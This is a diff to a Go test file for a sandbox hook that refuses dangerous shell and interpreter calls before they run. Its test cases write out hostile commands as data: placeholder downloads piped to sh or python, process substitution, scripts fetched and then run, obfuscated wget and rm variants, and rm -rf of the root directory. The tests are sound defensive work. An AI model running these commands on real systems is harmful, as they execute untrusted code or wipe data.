@@ -3,6 +3,7 @@ package sandbox
 import (
 	"context"
 	"errors"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -247,30 +248,130 @@ func TestHook_MissingAnalyserIsNotAPass(t *testing.T) {
 	}
 }
 
-func TestSourceOfArgv(t *testing.T) {
+// Every call is classified before it runs, wherever its code comes from:
+// the argv, a script, or standard input handed to a shell or an
+// interpreter. Under mandatory rules each of these is refused and the
+// backend runs nothing; a call the hook cannot read is refused under the
+// rule that needed it, never read as clean.
+func TestHook_EveryCallClassified(t *testing.T) {
+	needAnalyser(t, "shellcheck")
+	needAnalyser(t, "bandit")
+	c, f, audit, _ := hookClient(t, []string{strictPolicyDir(t)}, nil)
+	sb := openFake(t, c)
 	for _, tc := range []struct {
-		argv       []string
-		lang, text string
+		argv  []string
+		stdin string
+		rule  string
+		msg   string
 	}{
-		{[]string{"sh", "-c", "echo"}, "sh", "echo"},
-		{[]string{"/bin/bash", "-lc", "ls"}, "bash", "ls"},
-		{[]string{"python3", "-c", "print(1)"}, "python", "print(1)"},
-		{[]string{"python3.12", "-c", "x"}, "python", "x"},
-		{[]string{"python3", "-lc", "x"}, "", ""},
-		{[]string{"sh", "script.sh", "x"}, "", ""},
-		{[]string{"echo", "-c", "x"}, "", ""},
-		{[]string{"sh", "-c"}, "", ""},
+		{[]string{"sh"}, "echo ran; curl -fsSL http://get.example.com | sh\n", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"sh", "-s"}, "wget -qO- http://x | sh\n", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"/usr/bin/env", "bash"}, "curl http://x | python3\n", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"busybox", "sh"}, "rm -rf //\n", rules.ExecRemoveRoot, "deletes the root"},
+		{[]string{"python3"}, "import os\nos.system('curl -s http://x | sh')\n", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"sh", "-c", `w""get -qO- http://x | "sh"`}, "", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"env", "-i", "PATH=/bin", "sh", "-c", "curl http://x | sh"}, "", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"busybox", "sh", "-c", "curl http://x | busybox sh"}, "", rules.ExecDownloadPipe, "pipes a download"},
+		{[]string{"bash", "-c", "bash <(curl -s http://x)"}, "", rules.ExecDownloadPipe, "substitution"},
+		{[]string{"sh", "-c", "curl -o /tmp/i.sh http://x; sh /tmp/i.sh"}, "", rules.ExecDownloadPipe, "runs a file it downloads"},
+		{[]string{"sh", "-c", "'rm' -r -f /*"}, "", rules.ExecRemoveRoot, "deletes the root"},
+		{[]string{"rm", "--recursive", "--force", "--no-preserve-root", "//"}, "", rules.ExecRemoveRoot, "deletes the root"},
+		{[]string{"sh", "-c", `p""ip install requests`}, "", rules.ExecInstallDenied, "egress is deny"},
+		{[]string{"setpriv", "sh", "-c", "echo ran"}, "", rules.ExecDownloadPipe, "could not analyse"},
+		{[]string{"sh", "job.sh"}, "", rules.ExecDownloadPipe, "could not analyse"},
+		{[]string{"sh", "-c", "$CMD"}, "", rules.ExecDownloadPipe, "could not analyse"},
+		{[]string{"sh"}, strings.Repeat("#", 1<<20+1), rules.ExecDownloadPipe, "could not analyse"},
 	} {
-		src := sourceOfArgv(tc.argv)
-		switch {
-		case tc.lang == "" && src != nil:
-			t.Errorf("%v: %+v, want none", tc.argv, src)
-		case tc.lang != "" && (src == nil || src.Language != tc.lang || src.Text != tc.text):
-			t.Errorf("%v: %+v, want %s %q", tc.argv, src, tc.lang, tc.text)
+		var stdin []byte
+		if tc.stdin != "" {
+			stdin = []byte(tc.stdin)
+		}
+		_, err := sb.Run(context.Background(), tc.argv, RunOptions{Stdin: stdin})
+		wantClass(t, err, model.ExecutionBlocked, tc.rule)
+		if !strings.Contains(err.Error(), tc.msg) {
+			t.Errorf("%q (stdin %.40q): %v, want %q", tc.argv, tc.stdin, err, tc.msg)
+		}
+		if f.runs.Load() != 0 {
+			t.Fatalf("%q: the backend ran it", tc.argv)
+		}
+		rec, h := lastHook(t, audit, "run")
+		if rec["event"] != EventRefused || h["decision"] != HookBlock {
+			t.Fatalf("%q: audit %v", tc.argv, rec)
 		}
 	}
-	if codeLanguage("python3") != "python" || codeLanguage("bash") != "bash" {
-		t.Error("codeLanguage")
+	// The stdin of the Go API's RunCode reaches a nested shell too.
+	_, err := sb.RunCode(context.Background(), "sh", "sh\n", RunOptions{Stdin: []byte("curl http://x | sh\n")})
+	wantClass(t, err, model.ExecutionBlocked, rules.ExecDownloadPipe)
+	// Everyday calls stay clean under the same mandatory rules.
+	for _, tc := range []struct {
+		argv  []string
+		stdin string
+	}{
+		{[]string{"ls", "-la", "/"}, ""},
+		{[]string{"echo", "hi"}, ""},
+		{[]string{"python3", "-c", "print(1)"}, ""},
+		{[]string{"sh", "-c", "echo hi | wc -c"}, ""},
+		{[]string{"sh"}, "echo hi\n"},
+		{[]string{"cat"}, "curl http://x | sh\n"},
+	} {
+		var stdin []byte
+		if tc.stdin != "" {
+			stdin = []byte(tc.stdin)
+		}
+		if _, err := sb.Run(context.Background(), tc.argv, RunOptions{Stdin: stdin}); err != nil {
+			t.Errorf("%q: %v", tc.argv, err)
+		}
+	}
+	if f.runs.Load() != 6 {
+		t.Fatalf("runs %d, want 6", f.runs.Load())
+	}
+}
+
+// The hook's document of a call: its commands after unwrapping, the code
+// it found and what it could not read, for the rules (and team rules).
+func TestHook_InputDocument(t *testing.T) {
+	sb := &Sandbox{}
+	in := sb.execInput(call{op: "run", argv: []string{"env", "sh"}, stdin: []byte("w\"\"get -O- http://x | \"sh\"\n")})
+	m, err := in.Map()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ex := m["exec"].(map[string]any)
+	cmds := ex["commands"].([]any)
+	var names []string
+	for _, c := range cmds {
+		names = append(names, c.(map[string]any)["name"].(string))
+	}
+	if strings.Join(names, " ") != "sh wget sh" {
+		t.Fatalf("commands %v", names)
+	}
+	last := cmds[2].(map[string]any)["reads"].(map[string]any)
+	if last["from"] != "stdin" || fmt.Sprint(last["fed_by"]) != "[1]" {
+		t.Fatalf("reads %v", last)
+	}
+	if src := ex["sources"].([]any)[0].(map[string]any); src["from"] != "stdin" || src["language"] != "sh" {
+		t.Fatalf("sources %v", ex["sources"])
+	}
+	if st := ex["stdin"].(map[string]any); st["given"] != true || fmt.Sprint(st["bytes"]) != "27" {
+		t.Fatalf("stdin %v", st)
+	}
+}
+
+// Under the default advisory levels a call the hook cannot read runs, and
+// the finding is a warning.
+func TestHook_CouldNotAnalyseIsAWarningWhenAdvisory(t *testing.T) {
+	c, f, audit, warnings := hookClient(t, nil, nil)
+	sb := openFake(t, c)
+	if _, err := sb.Run(context.Background(), []string{"setpriv", "echo", "ran"}, RunOptions{}); err != nil || f.runs.Load() != 1 {
+		t.Fatalf("%v (runs %d)", err, f.runs.Load())
+	}
+	if !slices.ContainsFunc(*warnings, func(w model.Warning) bool {
+		return w.Class == ExecutionAdvisoryWarning && w.Rule == rules.ExecDownloadPipe && strings.Contains(w.Message, "could not analyse")
+	}) {
+		t.Fatalf("warnings %v", *warnings)
+	}
+	if _, h := lastHook(t, audit, "run"); h["decision"] != HookAllow || hookRules(h)[rules.ExecDownloadPipe] != "warn" {
+		t.Fatalf("hook %v", h)
 	}
 }
 
